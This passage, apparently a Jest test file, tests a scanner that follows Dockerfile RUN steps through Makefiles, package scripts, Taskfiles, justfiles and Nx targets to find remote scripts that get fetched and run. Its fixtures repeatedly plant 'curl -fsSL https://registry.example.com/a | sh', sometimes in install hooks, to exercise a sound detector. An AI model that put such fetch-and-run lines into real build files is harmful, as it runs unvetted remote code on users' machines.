import { describe, expect, it } from '@jest/globals';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';
import { inTimeAsync } from '../support/in-time.ts';

const FETCH = 'curl -fsSL https://registry.example.com/a | sh';

/** `path:line` of what is fetched and run. */
async function fetched(files: Files): Promise<readonly string[]> {
  const { findings } = await scanFiles(files);
  return findings
    .filter(({ ruleId }) => ruleId === 'remote-script-exec')
    .map(({ span: { file, start } }) => `${file.path}:${file.text.slice(0, start).split('\n').length}`);
}

const inFolder = (lines: string) => `FROM debian:12 AS s\nWORKDIR /a\nCOPY . .\n${lines}\n`;
const packageOf = (scripts: Record<string, string>, more = {}) => `${JSON.stringify({ ...more, scripts }, null, 1)}\n`;

describe('a target of a Makefile that a variable determines', () => {
  const harmful = { Makefile: `all:\n\ttrue\nbuild-x:\n\t${FETCH}\n` };

  async function toldOf(run: string, files: Files = harmful): Promise<readonly string[]> {
    const { notifications } = await scanFiles({ ...files, Dockerfile: inFolder(`ARG TARGET\n${run}`) });
    return notifications.flatMap(({ message, gap }) => (gap?.kind === 'unreadable-commands' ? [message] : []));
  }

  it.each(['RUN make "$TARGET"', 'RUN make ${TARGET}', 'RUN make build-$TARGET'])('is told: %s', async (run) => {
    expect(await toldOf(run)).toEqual([
      expect.stringContaining('a variable determines which target of the Makefile is made'),
    ]);
  });

  it.each([
    'RUN make -j "$(nproc)" all',
    'RUN make -j $TARGET all',
    'RUN make $MAKE_ARGS all',
    'RUN make V=$TARGET -C $TARGET',
    'ARG T=all\nRUN make $T',
    'RUN for one in all test; do make $one; done',
  ])('is not meant by %s', async (run) => {
    expect(await toldOf(run)).toEqual([]);
  });

  it('does not matter where no recipe mentions what may harm', async () => {
    expect(await toldOf('RUN make "$TARGET"', { Makefile: 'all:\n\tgcc x.c\n' })).toEqual([]);
  });

  it('is read where a loop has the names', async () => {
    const Dockerfile = inFolder('RUN for one in all build-x; do make $one; done');
    expect(await fetched({ ...harmful, Dockerfile })).toEqual(['Makefile:4']);
  });
});

describe('scripts of workspaces', () => {
  const files = {
    'package.json': JSON.stringify({ workspaces: ['packages/*'] }),
    'pnpm-workspace.yaml': 'packages:\n  - packages/*\n',
    'packages/a/package.json': packageOf({ build: FETCH }, { name: '@acme/a' }),
    'packages/b/package.json': packageOf({ test: 'true' }, { name: '@acme/b' }),
  };

  it.each([
    'pnpm -r run build',
    'pnpm run -r build',
    'pnpm recursive run build',
    'pnpm --recursive build',
    'pnpm --filter @acme/a build',
    'pnpm --filter=./packages/a run build',
    'pnpm -F "@acme/*" build',
    'npm run build --workspaces',
    'npm run build -ws',
    'npm run build -w @acme/a',
    'npm run build --workspace=packages/a',
    'yarn workspaces foreach -A run build',
    'yarn workspaces run build',
    'yarn workspace @acme/a build',
    'turbo run build',
    'turbo test build --filter=@acme/a',
    'npx -y turbo@2 run build',
    'pnpm exec turbo build',
    'lerna run build --scope @acme/a',
    'npx lerna run build',
    'npx nx run-many -t build',
    'nx run a:build',
    'bun run --filter "*" build',
  ])('are read for %s', async (command) => {
    const found = await fetched({ ...files, Dockerfile: inFolder(`RUN ${command}`) });
    expect(found).toEqual(['packages/a/package.json:4']);
  });

  it.each([
    'pnpm -r run test',
    'pnpm --filter @acme/b build',
    'npm run build',
    'npm run build -w @acme/b',
    'yarn workspace @acme/b build',
    'turbo run test',
    'turbo build --filter=@acme/b',
    'lerna bootstrap',
    'npx build',
  ])('are not read for %s', async (command) => {
    expect(await fetched({ ...files, Dockerfile: inFolder(`RUN ${command}`) })).toEqual([]);
  });

  it('are left out where pnpm runs that of the root', async () => {
    const own = { ...files, 'package.json': packageOf({ build: FETCH }) };
    const found = await fetched({ ...own, Dockerfile: inFolder('RUN pnpm -w run build') });
    expect(found).toEqual(['package.json:3']);
  });

  it('are found by the list of pnpm and of Lerna alone', async () => {
    const { 'package.json': _, 'pnpm-workspace.yaml': list, ...packages } = files;
    const lerna = { 'lerna.json': '{"packages": ["packages/*"]}' };
    for (const [command, lists] of [
      ['pnpm -r build', { 'pnpm-workspace.yaml': list }],
      ['lerna run build', lerna],
    ] as const) {
      const found = await fetched({ ...packages, ...lists, Dockerfile: inFolder(`RUN ${command}`) });
      expect(found).toEqual(['packages/a/package.json:4']);
    }
  });
});

describe('a Makefile that a RUN uses', () => {
  const all = { Makefile: `all: dep\n\ttrue\ndep:\n\t@${FETCH}\nother:\n\ttrue\n` };

  it.each<[run: string, files?: Files, place?: string]>([
    ['RUN make'],
    ['RUN make all'],
    ['RUN make -j4 dep V=1'],
    ['RUN ["make", "dep"]'],
    ['RUN cd / && make -C /a dep'],
    ['RUN make --directory=/a'],
    ['RUN gmake -s dep'],
    ['CMD make dep'],
    ['RUN make -f b.mk', { 'b.mk': `x:\n\t${FETCH}\n` }, 'b.mk:2'],
    ['RUN make -C sub x', { 'sub/makefile': `x:\n\t-${FETCH}\n` }, 'sub/makefile:2'],
    ['RUN make x', { Makefile: `include b.mk\nx: y\n`, 'b.mk': `y:\n\t${FETCH}\n` }, 'b.mk:2'],
    ['RUN make x', { Makefile: `include m/*.mk\nx: y\n`, 'm/b.mk': `y:\n\t${FETCH}\n` }, 'm/b.mk:2'],
    ['RUN make x', { Makefile: `x:\n\t$(MAKE) -C sub y\n`, 'sub/Makefile': `y:\n\t${FETCH}\n` }, 'sub/Makefile:2'],
    ['RUN make x', { Makefile: 'x: s.sh\n\tsh $<\n', 's.sh': `${FETCH}\n` }, 's.sh:1'],
    ['RUN make run-b', { Makefile: 'run-%:\n\tsh $*.sh\n', 'b.sh': `${FETCH}\n` }, 'b.sh:1'],
    ['RUN make x GET=a.sh', { Makefile: 'x:\n\tsh $(GET)\n', 'a.sh': `${FETCH}\n` }, 'a.sh:1'],
    ['RUN make x', { Makefile: `TOOL := $(shell ${FETCH})\nx:\n\ttrue\n` }, 'Makefile:1'],
    ['RUN make x', { Makefile: `define get\n${FETCH}\nendef\nx:\n\t$(get)\n` }, 'Makefile:2'],
    [
      'RUN make x',
      { Makefile: `.ONESHELL:\nx:\n\tU=$$(curl -fsSL https://registry.example.com/a)\n\tsh -c "$$U"\n` },
      'Makefile:4',
    ],
    ['RUN make x', { Makefile: `x:: a\n\ttrue\nx::\n\t${FETCH}\n` }, 'Makefile:4'],
    ['RUN make', { Makefile: `.DEFAULT_GOAL := dep\nhelp:\n\ttrue\ndep:\n\t${FETCH}\n` }, 'Makefile:5'],
    ['RUN make', { Makefile: `help:\n\ttrue\nT = dep\ndep:\n\t${FETCH}\n.DEFAULT_GOAL = $(T)\n` }, 'Makefile:5'],
  ])('%j', async (run, files = {}, place = 'Makefile:4') => {
    expect(await fetched({ Dockerfile: inFolder(run), ...all, ...files })).toEqual([place]);
  });

  it.each<[run: string, files?: Files]>([
    ['RUN make other'],
    ['RUN make -C /gone'],
    ['RUN make -f gone.mk'],
    ['RUN make "$TARGET"'],
    ['RUN cd / && make all'],
    ['RUN make', { '.dockerignore': 'Makefile\n' }],
    ['RUN make', { Makefile: `.DEFAULT_GOAL := all\ndep:\n\t${FETCH}\nall:\n\ttrue\n` }],
    ['RUN make all', { Makefile: `.DEFAULT_GOAL := dep\ndep:\n\t${FETCH}\nall:\n\ttrue\n` }],
    ['RUN make x', { Makefile: `x: x\n\t$(MAKE) x\n` }],
  ])('says nothing of %j', async (run, files = {}) => {
    expect(await fetched({ Dockerfile: inFolder(run), ...all, ...files })).toEqual([]);
  });

  it('may be mounted, written by the Dockerfile, or from another stage', async () => {
    const { Makefile } = all;
    const mounted = 'FROM a\nWORKDIR /a\nRUN --mount=target=/a make';
    expect(await fetched({ Dockerfile: mounted, Makefile })).toEqual(['Makefile:4']);
    const written = `FROM a\nCOPY <<E /a/Makefile\nall:\n\t${FETCH}\nE\nRUN make -C /a`;
    expect(await fetched({ Dockerfile: written })).toEqual(['Dockerfile:4']);
    const copied = 'FROM a AS s\nCOPY . /a\nFROM a\nCOPY --from=s /a /b\nRUN make -C /b';
    expect(await fetched({ Dockerfile: copied, Makefile })).toEqual(['Makefile:4']);
  });
});

describe('package scripts that a RUN uses', () => {
  it.each<[run: string, scripts: Record<string, string>]>([
    ...[
      'npm ci',
      'npm i',
      'npm install --omit=dev',
      'yarn',
      'yarn install --frozen-lockfile',
      'pnpm i',
      'bun install',
    ].map((command): [string, Record<string, string>] => [`RUN ${command}`, { postinstall: FETCH }]),
    ['RUN npm ci', { preinstall: FETCH }],
    ['RUN npm ci', { prepare: FETCH }],
    ['RUN npm pack', { prepack: FETCH }],
    ['RUN npm --prefix /a ci', { install: FETCH }],
    ['RUN cd / && yarn --cwd /a', { install: FETCH }],
    ['RUN npm run build', { build: FETCH }],
    ['RUN npm run build', { prebuild: FETCH, build: 'true' }],
    ['RUN npm run-script build -- --prod', { postbuild: FETCH }],
    ['RUN npm run build', { build: `npm run x && true`, x: FETCH }],
    ['RUN npm run build', { build: 'run-s x y', x: 'true', y: FETCH }],
    ['RUN npm t', { test: FETCH }],
    ['RUN yarn build', { build: FETCH }],
    ['RUN pnpm build', { build: FETCH }],
    ['CMD ["npm", "start"]', { start: FETCH }],
    ['ENTRYPOINT npm run serve', { serve: FETCH }],
  ])('%j with %j', async (run, scripts) => {
    const places = await fetched({ Dockerfile: inFolder(run), 'package.json': packageOf(scripts) });
    expect(places).toEqual([expect.stringMatching(/^package\.json:[345]$/)]);
  });

  it.each<[run: string, scripts: Record<string, string>]>([
    ['RUN npm ci --ignore-scripts', { postinstall: FETCH }],
    ['RUN npm install -g yarn', { postinstall: FETCH }],
    ['RUN npm install left-pad', { postinstall: FETCH }],
    ['RUN npm ci', { postbuild: FETCH }],
    ['RUN npm run build', { deploy: FETCH }],
    ['RUN npm cache clean --force', { cache: FETCH, clean: FETCH }],
    ['RUN npm', { install: FETCH }],
  ])('says nothing of %j with %j', async (run, scripts) => {
    expect(await fetched({ Dockerfile: inFolder(run), 'package.json': packageOf(scripts) })).toEqual([]);
  });

  it('are read in workspaces, too', async () => {
    const places = await fetched({
      Dockerfile: inFolder('RUN npm ci'),
      'package.json': packageOf({}, { workspaces: ['packages/*'] }),
      'packages/b/package.json': packageOf({ postinstall: FETCH }),
      'examples/c/package.json': packageOf({ postinstall: FETCH }),
    });
    expect(places).toEqual(['packages/b/package.json:3']);
  });

  it('find files from their folder', async () => {
    const files = { 'w/package.json': packageOf({ postinstall: 'sh ./s/a.sh' }), 'w/s/a.sh': `${FETCH}\n` };
    expect(await fetched({ Dockerfile: inFolder('RUN cd w && npm ci'), ...files })).toEqual(['w/s/a.sh:1']);
    expect(await fetched({ Dockerfile: inFolder('RUN npm ci'), ...files })).toEqual([]);
  });

  it('are not read from a file that is not JSON', async () => {
    expect(await fetched({ Dockerfile: inFolder('RUN npm ci'), 'package.json': '{' })).toEqual([]);
    expect(await fetched({ Dockerfile: inFolder('RUN npm ci'), 'package.json': '[]' })).toEqual([]);
  });
});

describe('package scripts that other programs name', () => {
  const scripts = { 'build:a': 'true', 'build:b': FETCH, 'build:c:d': 'true', other: 'true' };

  it.each([
    'run-s build:*',
    'run-p -l "build:*"',
    'npm-run-all --parallel other build:*',
    'npm-run-all2 "build:**"',
    "run-s 'build:b -- --watch'",
    'run-z build:a,build:b',
    'concurrently npm:build:*',
    'concurrently -k "npm:other" "pnpm:build:b"',
    'concurrently "yarn:build:*"',
    'concurrently "npm run build:*"',
    'pnpm run "/^build:.*/"',
    'pnpm "/^build:(a|b)$/"',
    'pnpm run "/:b/"',
    'node --run build:b',
    'node --run=build:b',
    'npx run-s build:*',
    'npm exec run-s "build:*"',
    'yarn run-p build:*',
    'bunx concurrently "npm:build:*"',
    'cross-env A=1 npm run build:b',
    'npx cross-env A=1 npm run build:b',
    'yarn exec cross-env A=1 npm run build:b',
    'cross-env-shell A=1 "npm run build:b"',
    'dotenv -e .env -- npm run build:b',
    'env-cmd -f a.env npm run build:b',
    'tsc-watch --onSuccess "npm run build:b"',
    'start-server-and-test build:b http://localhost:3000 build:a',
    'start-server-and-test build:a 3000 "npm run build:b"',
  ])('are read for %s', async (build) => {
    const files = { 'package.json': packageOf({ build, ...scripts }), Dockerfile: inFolder('RUN npm run build') };
    expect(await fetched(files)).toEqual(['package.json:5']);
  });

  it.each([
    'run-s build:c:*',
    'run-s build:a other',
    'run-s *',
    'concurrently -n build:b "npm run build:a"',
    'concurrently "npm:build:*(!b)"',
    'concurrently build:b',
    'pnpm run "/^other/"',
    'pnpm run "/^(?!a).*/"',
    'pnpm run "build:*"',
    'node build:b',
    'node build.js --run-all build:b',
    'npx run-some "build:*"',
    'start-server-and-test build:a 3000 other',
    'echo run-s "build:*"',
  ])('are not read for %s', async (build) => {
    const files = { 'package.json': packageOf({ build, ...scripts }), Dockerfile: inFolder('RUN npm run build') };
    expect(await fetched(files)).toEqual([]);
  });

  it('are those of tasks that Turborepo runs before others', async () => {
    const files = {
      'package.json': packageOf({}, { workspaces: ['packages/*'] }),
      'packages/a/package.json': packageOf({ build: 'true' }, { name: 'a', dependencies: { b: '*' } }),
      'packages/b/package.json': packageOf({ build: FETCH }, { name: 'b' }),
      'packages/c/package.json': packageOf({ 'gen:c': FETCH }, { name: 'c' }),
    };
    const places = (dependsOn: readonly string[], key: string, run: string) =>
      fetched({
        ...files,
        'turbo.json': JSON.stringify({ [key]: { build: { dependsOn }, test: { dependsOn: ['build'] } } }),
        Dockerfile: inFolder(`RUN ${run}`),
      });
    expect(await places(['^build'], 'tasks', 'npx turbo run build --filter=a')).toEqual(['packages/b/package.json:4']);
    expect(await places(['^build'], 'pipeline', 'turbo test --filter a')).toEqual(['packages/b/package.json:4']);
    expect(await places(['c#gen:c'], 'tasks', 'turbo build -F c')).toEqual(['packages/c/package.json:4']);
    expect(await places(['other'], 'tasks', 'turbo run build --filter=a')).toEqual([]);
    expect(await places(['^build'], 'tasks', 'turbo run lint --filter=a')).toEqual([]);
    expect(await places(['^build'], 'other', 'turbo run build --filter=a')).toEqual([]);
  });
});

describe('other files with commands that a RUN uses', () => {
  it.each<[run: string, files: Files, place: string]>([
    ['RUN composer install', { 'composer.json': packageOf({ 'post-install-cmd': FETCH }) }, 'composer.json:3'],
    ['RUN composer i -d /a', { 'composer.json': packageOf({ 'pre-autoload-dump': FETCH }) }, 'composer.json:3'],
    ['RUN composer run b', { 'composer.json': packageOf({ b: '@c', c: FETCH }) }, 'composer.json:4'],
    ['RUN composer b', { 'composer.json': packageOf({ b: '@composer run c', c: FETCH }) }, 'composer.json:4'],
    ['RUN php -d a=b composer.phar run b', { 'composer.json': packageOf({ b: FETCH }) }, 'composer.json:3'],
    ['RUN bun --cwd c run b', { 'c/package.json': packageOf({ b: FETCH }) }, 'c/package.json:3'],
    ['RUN deno task b', { 'deno.json': `// tasks\n{"tasks": {"b": "${FETCH}"}}` }, 'deno.json:2'],
    ['RUN deno run b', { 'deno.jsonc': `{"tasks": {"b": {"command": "${FETCH}"}}}` }, 'deno.jsonc:1'],
    ['RUN deno task --cwd c b', { 'c/deno.json': `{"tasks": {"b": "${FETCH}"}}` }, 'c/deno.json:1'],
    ['RUN deno task -c c/d.json "b:*"', { 'c/d.json': `{"tasks": {"b:c:d": "${FETCH}"}}` }, 'c/d.json:1'],
    [
      'RUN deno task b',
      { 'deno.json': `{"tasks": {"b": {"dependencies": ["c"]},\n"c": "deno task d",\n"d": "${FETCH}"}}` },
      'deno.json:3',
    ],
    ['RUN deno task b', { 'package.json': packageOf({ b: FETCH }) }, 'package.json:3'],
    ['RUN composer dump-autoload', { 'composer.json': packageOf({ 'post-autoload-dump': FETCH }) }, 'composer.json:3'],
    ['RUN poe b', { 'pyproject.toml': `[tool.poe.tasks]\na = "true"\nb = "sh c.sh"\n`, 'c.sh': FETCH }, 'c.sh:1'],
    ['RUN poetry run poe b', { 'pyproject.toml': `[tool.poe.tasks.b]\nshell = "${FETCH}"\n` }, 'pyproject.toml:2'],
    ['RUN poe -q b x', { 'poe_tasks.toml': `[tasks]\nb = { shell = "${FETCH}" }\n` }, 'poe_tasks.toml:2'],
    [
      'RUN poe b',
      { 'pyproject.toml': `[tool.poe.tasks]\nb = ["c", { cmd = "true" }]\nc.deps = ["d --x"]\nd.shell = "${FETCH}"\n` },
      'pyproject.toml:4',
    ],
    ['RUN just', { justfile: `all: b\n    true\nb:\n    @${FETCH}\n` }, 'justfile:4'],
    ['RUN just', { justfile: `a:\n\n    ${FETCH}\n\n` }, 'justfile:3'],
    ['RUN just b', { Justfile: `a:\n    true\nb:\n    #!/bin/sh\n    ${FETCH}\n` }, 'Justfile:5'],
    ['RUN just -f b/x b', { 'b/x': `b:\n    sh c.sh\n`, 'b/c.sh': FETCH }, 'b/c.sh:1'],
    ['RUN task', { 'Taskfile.yml': `tasks:\n  default:\n    deps: [b]\n  b: ${FETCH}\n` }, 'Taskfile.yml:4'],
    ['RUN task b', { 'Taskfile.yaml': `tasks:\n  b:\n    dir: c\n    cmds: [sh d.sh]\n`, 'c/d.sh': FETCH }, 'c/d.sh:1'],
  ])('%j', async (run, files, place) => {
    expect(await fetched({ Dockerfile: inFolder(run), ...files })).toEqual([place]);
  });

  it.each<[run: string, files: Files]>([
    ['RUN composer install --no-scripts', { 'composer.json': packageOf({ 'post-install-cmd': FETCH }) }],
    ['RUN composer install', { 'composer.json': packageOf({ deploy: FETCH }) }],
    ['RUN deno task b', { 'deno.json': `{"tasks": {"c": "${FETCH}"}}` }],
    ['RUN deno task b c', { 'deno.json': `{"tasks": {"b": "true", "c": "${FETCH}"}}` }],
    ['RUN deno fmt b', { 'deno.json': `{"tasks": {"b": "${FETCH}"}}` }],
    ['RUN poe b', { 'pyproject.toml': `[tool.poe.tasks]\nb = "true"\nc.shell = "${FETCH}"\n` }],
    ['RUN poe b c', { 'pyproject.toml': `[tool.poe.tasks]\nb = "true"\nc.shell = "${FETCH}"\n` }],
    ['RUN poe b', { 'pyproject.toml': `[tool.poe.tasks.b]\ncmd = "true"\nhelp = "${FETCH}"\n` }],
    ['RUN poe b', { 'pyproject.toml': `[tool.poe.tasks]\nb = ["b", "a"]\na = { ref = "b" }\n` }],
    ['RUN poetry install', { 'pyproject.toml': `[tool.poe.tasks]\ninstall.shell = "${FETCH}"\n` }],
    ['RUN poe b', { 'pyproject.toml': '[[' }],
    ['RUN php b.php run b', { 'composer.json': packageOf({ b: FETCH }) }],
    ['RUN just a', { justfile: `a:\n    true\nb:\n    ${FETCH}\n` }],
    ['RUN task a', { 'Taskfile.yml': `tasks:\n  a: [true]\n  b: ${FETCH}\n` }],
    ['RUN task a', { 'Taskfile.yml': '{' }],
  ])('says nothing of %j', async (run, files) => {
    expect(await fetched({ Dockerfile: inFolder(run), ...files })).toEqual([]);
  });
});

describe('scripts that a command finds by a pattern', () => {
  const files = {
    's/p': '#!/usr/bin/env python3\nf(x) for\n',
    's/a.sh': 'true\n',
    's/b.sh': `${FETCH}\n`,
    's/c/d.txt': `${FETCH}\n`,
  };

  it.each([
    'for f in s/*.sh; do sh "$f"; done',
    'for f in s/a.sh s/b.sh; do bash ./$f; done',
    'for f in a b; do . s/$f.sh; done',
    'for f in $(ls s); do sh s/$f; done',
    'for f in $(find s -name "*.sh"); do sh "${f}"; done',
    'cd s && for f in *.sh; do ./$f; done',
    'D=s; for f in "$D"/*.sh; do "$f"; done',
    'sh s/[bc].sh',
    'cat s/*.sh | sh',
    'ls s/*.sh | xargs -n1 sh',
    'ls s/*.sh | sort | xargs -I % bash %',
    "find s -name '*.sh' | sort | xargs -I{} sh -e {}",
    'find s -name b.sh -exec sh {} \\;',
    'find s -name "*.sh" | while read -r f; do sh "$f"; done',
    'run-parts s',
    'run-parts --exit-on-error /a/s',
  ])('%j', async (command) => {
    expect(await fetched({ Dockerfile: inFolder(`RUN ${command}`), ...files })).toEqual(['s/b.sh:1']);
  });

  it('in every file, whatever its name is', async () => {
    const found = await fetched({ Dockerfile: inFolder('RUN find s -type f -exec {} +'), ...files });
    expect(found).toEqual(['s/b.sh:1', 's/c/d.txt:1']);
  });

  it.each([
    'for f in s/*.md; do sh "$f"; done',
    'for f in s/*.sh; do echo "$f"; done',
    'for f in s/a.sh; do sh "$f"; done',
    'for f in s/*.sh; do sh "${f%.sh}"; done',
    'sh "s/*.sh"',
    'ls s/*.sh | xargs chmod 755',
    'find s -name a.sh -exec sh {} \\;',
    'find t -exec sh {} \\;',
  ])('says nothing of %j', async (command) => {
    expect(await fetched({ Dockerfile: inFolder(`RUN ${command}`), ...files })).toEqual([]);
  });
});

describe('targets of Nx that a RUN uses', () => {
  const project = (targets: unknown) => JSON.stringify({ name: 'app', targets });
  const running = (options: unknown, more = {}) =>
    project({ build: { executor: 'nx:run-commands', options, ...more }, gen: { command: FETCH } });

  it.each<[run: string, text: string]>([
    ['npx nx build app', running({ command: FETCH })],
    ['nx run app:build', project({ build: { command: FETCH } })],
    ['nx run-many -t lint build', running({ commands: ['true', FETCH] })],
    ['nx run-many --target=build -p app', running({ commands: [{ command: FETCH }] })],
    ['nx affected -t build', running({ command: FETCH })],
    ['nx build app', running({ command: 'true' }, { dependsOn: ['gen'] })],
    ['nx build app -c prod', running({}, { configurations: { prod: { command: FETCH } } })],
    ['nx run app:build:prod', running({}, { configurations: { prod: { command: FETCH } } })],
    ['nx build', running({ command: 'sh b', cwd: 'c' })],
  ])('%j with %j', async (run, text) => {
    const files = { 'apps/a/project.json': text, 'c/b': FETCH, Dockerfile: inFolder(`RUN ${run}`) };
    expect(await fetched(files)).toEqual([text.includes('sh b') ? 'c/b:1' : 'apps/a/project.json:1']);
  });

  it.each<[run: string, text: string]>([
    ['nx build other', running({ command: FETCH })],
    ['nx test app', running({ command: FETCH })],
    ['nx run app:test', running({ command: FETCH })],
    ['nx run-many -t build -p other', running({ command: FETCH })],
    ['nx build app', running({}, { configurations: { prod: { command: FETCH } } })],
    ['nx build app', running({}, { dependsOn: ['^gen'] })],
    ['nx build app', project({ build: { executor: '@acme/tools:build', options: { command: FETCH } } })],
    ['nx graph', running({ command: FETCH })],
  ])('says nothing of %j with %j', async (run, text) => {
    expect(await fetched({ 'apps/a/project.json': text, Dockerfile: inFolder(`RUN ${run}`) })).toEqual([]);
  });
});

describe('a Taskfile that a RUN uses', () => {
  const tasks = (lines: string) => `version: '3'\n${lines}`;
  const FILES: Files = { 'b.sh': `${FETCH}\n`, 'a.sh': 'true\n', 'b/Taskfile.yml': tasks(`tasks:\n  x: ${FETCH}\n`) };
  const inB = 'b/Taskfile.yml:3';

  it.each<[run: string, lines: string, place: string, files?: Files]>([
    ['task b:x', 'includes:\n  b: ./b\n', inB],
    ['task b:x', 'includes:\n  b: ./b/Taskfile.yml\n', inB],
    ['task b:x', "includes:\n  b: '{{.ROOT_DIR}}/b'\n", inB],
    ['task c:x', 'includes:\n  b: {taskfile: b, aliases: [c]}\n', inB],
    ['task x', 'includes:\n  b: {taskfile: b, flatten: true}\n', inB],
    ['task b:x', "includes:\n  b: 'b_{{OS}}.yml'\n", 'b_linux.yml:1', { 'b_linux.yml': `tasks: {x: "${FETCH}"}\n` }],
    ['task c:b:x', 'includes:\n  c: ./c\n', inB, { 'c/Taskfile.yml': 'includes: {b: ../b}\n' }],
    ['task y', 'includes:\n  b: ./b\ntasks:\n  y: [{task: b:x}]\n', inB],
    ['task y', 'includes:\n  b: ./b\ntasks:\n  y: {deps: [b:x]}\n', inB],
    ['task y', 'includes:\n  b: {taskfile: b, flatten: true}\ntasks:\n  y: [{task: x}]\n', inB],
    ['task c', 'includes:\n  c: ./c\n', 'c/Taskfile.yml:1', { 'c/Taskfile.yml': `tasks: {default: "${FETCH}"}\n` }],
    [
      'task c:y',
      `includes:\n  c: ./c\ntasks:\n  x: ${FETCH}\n`,
      'Taskfile.yml:5',
      { 'c/Taskfile.yml': "tasks: {y: {deps: [':x']}}\n" },
    ],
    ['task c:y', 'includes:\n  c: ./c\n', 'b.sh:1', { 'c/Taskfile.yml': 'tasks: {y: sh b.sh}\n' }],
    [
      'task c:y',
      'includes:\n  c: {taskfile: c, dir: c}\n',
      'c/b.sh:1',
      { 'c/Taskfile.yml': 'tasks: {y: sh b.sh}\n', 'c/b.sh': FETCH },
    ],
    ['task y', `tasks:\n  x:\n    aliases: [y]\n    cmds: ['${FETCH}']\n`, 'Taskfile.yml:5'],
    ['task x:1', `tasks:\n  x:*: ${FETCH}\n`, 'Taskfile.yml:3'],
    ['task x', "tasks:\n  x: [{for: [a, b], cmd: 'sh {{.ITEM}}.sh'}]\n", 'b.sh:1'],
    ['task x', `tasks:\n  x: [{for: [a, b], task: 'do-{{.ITEM}}'}]\n  do-b: ${FETCH}\n`, 'Taskfile.yml:4'],
    ['task x', `tasks:\n  x: {deps: [{for: [a, b], task: '{{.ITEM}}'}]}\n  b: ${FETCH}\n`, 'Taskfile.yml:4'],
    ['task x', "vars: {L: a b}\ntasks:\n  x: [{for: {var: L}, cmd: 'sh {{.ITEM}}.sh'}]\n", 'b.sh:1'],
    ['task x', "vars: {L: [a, b]}\ntasks:\n  x: [{for: {var: L}, cmd: 'sh {{.ITEM}}.sh'}]\n", 'b.sh:1'],
    ['task x', "vars: {L: 'a,b'}\ntasks:\n  x: [{for: {var: L, split: ',', as: N}, cmd: 'sh {{.N}}.sh'}]\n", 'b.sh:1'],
    ['task x', "tasks:\n  x: [{for: {matrix: {K: [a, b]}}, cmd: 'sh {{.ITEM.K}}.sh'}]\n", 'b.sh:1'],
    ['task x', "tasks:\n  x:\n    sources: ['*.sh']\n    cmds: [{for: sources, cmd: 'sh {{.ITEM}}'}]\n", 'b.sh:1'],
    ['task x', "tasks:\n  x: [{task: y, vars: {F: b.sh}}]\n  y: 'sh {{.F}}'\n", 'b.sh:1'],
    ['task x', "tasks:\n  x: [{for: [a, b], task: y, vars: {F: '{{.ITEM}}.sh'}}]\n  y: 'sh {{.F}}'\n", 'b.sh:1'],
    ['task x F=b.sh', "vars: {F: a.sh}\ntasks:\n  x: 'sh {{.F}}'\n", 'b.sh:1'],
    ['task y', "vars: {F: b.sh}\ntasks:\n  x: [{task: y, vars: {F: a.sh}}]\n  y: 'sh {{.F}}'\n", 'b.sh:1'],
    ['cd b && task -d .. x', "tasks:\n  x: 'sh {{.ROOT_DIR}}/b.sh'\n", 'b.sh:1'],
    [
      'task c:y',
      'includes:\n  c: {taskfile: c, vars: {F: b.sh}}\n',
      'b.sh:1',
      { 'c/Taskfile.yml': "tasks: {y: 'sh {{.F}}'}\n" },
    ],
    ['task c:y', 'vars: {F: b.sh}\nincludes: {c: ./c}\n', 'b.sh:1', { 'c/Taskfile.yml': "tasks: {y: 'sh {{.F}}'}\n" }],
  ])('%j with %j', async (run, lines, place, files = {}) => {
    const all = { ...FILES, ...files, 'Taskfile.yml': tasks(lines), Dockerfile: inFolder(`RUN ${run}`) };
    expect(await fetched(all)).toEqual([place]);
  });

  it.each<[run: string, lines: string, files?: Files]>([
    ['task x', 'includes:\n  b: ./b\n'],
    ['task b:y', 'includes:\n  b: ./b\n'],
    ['task b:x', 'includes:\n  b: https://registry.example.com/Taskfile.yml\n'],
    ['task b:x', "includes:\n  b: './{{.NOT_SET}}/Taskfile.yml'\n"],
    ['task y:1', `tasks:\n  x:*: ${FETCH}\n  y:1: true\n`],
    ['task x', `tasks:\n  x: [{for: [a, c], task: '{{.ITEM}}'}]\n  a: true\n  b: ${FETCH}\n`],
    ['task x', `tasks:\n  x: [{for: {var: NOT_SET}, task: '{{.ITEM}}'}]\n  b: ${FETCH}\n`],
    ['task x', "vars: {F: b.sh}\ntasks:\n  x: [{task: y, vars: {F: a.sh}}]\n  y: 'sh {{.F}}'\n"],
    ['task x', "tasks:\n  x: [{task: y, vars: {F: b.sh}}]\n  y: {vars: {F: a.sh}, cmds: ['sh {{.F}}']}\n"],
    ['task x F=a.sh', "vars: {F: b.sh}\ntasks:\n  x: 'sh {{.F}}'\n"],
    [
      'task c:y',
      'vars: {F: b.sh}\nincludes: {c: {taskfile: c, vars: {F: b.sh}}}\n',
      { 'c/Taskfile.yml': "vars: {F: a.sh}\ntasks: {y: 'sh {{.F}}'}\n" },
    ],
    ['task y', 'includes:\n  b: {taskfile: Taskfile.yml, flatten: true}\ntasks:\n  x: [{task: x}, {task: b:x}]\n'],
  ])('says nothing of %j with %j', async (run, lines, files = {}) => {
    const all = { ...FILES, ...files, 'Taskfile.yml': tasks(lines), Dockerfile: inFolder(`RUN ${run}`) };
    expect(await fetched(all)).toEqual([]);
  });
});

describe('a justfile that a RUN uses', () => {
  const FILES: Files = { 'b.sh': `${FETCH}\n`, 'a.sh': 'true\n', 'b.just': `x:\n    ${FETCH}\n` };
  const inB = 'b.just:2';

  it.each<[run: string, justfile: string, place: string, files?: Files]>([
    ['just x', "import 'b.just'\n", inB],
    ['just x', "import? './b.just'\n", inB],
    ['just', "import 'b.just'\n", inB],
    ['just y', "import 'b.just'\ny: x\n", inB],
    ['just x', "import 'c/c.just'\n", inB, { 'c/c.just': "import '../b.just'\n" }],
    ['just y', "import 'c.just'\ny:\n    sh {{f}}\n", 'b.sh:1', { 'c.just': "f := 'b.sh'\n" }],
    ['just y', "import 'c/c.just'\n", 'b.sh:1', { 'c/c.just': 'y:\n    sh b.sh\n' }],
    ['just b x', 'mod b\n', inB],
    ['just b::x', 'mod? b\n', inB],
    ['just b', 'mod b\n', inB],
    ['just c x', "mod c 'b.just'\n", inB],
    ['just y', 'mod b\ny: b::x\n', inB],
    ['just y', 'mod b\ny:\n    just b x\n', inB],
    ['just y', 'mod b\nalias y := b::x\n', inB],
    ['just c y', 'mod c\n', 'c/b.sh:1', { 'c/justfile': 'y:\n    sh b.sh\n', 'c/b.sh': FETCH }],
    ['just c y', 'mod c\n', 'c/mod.just:2', { 'c/mod.just': `y:\n    ${FETCH}\n` }],
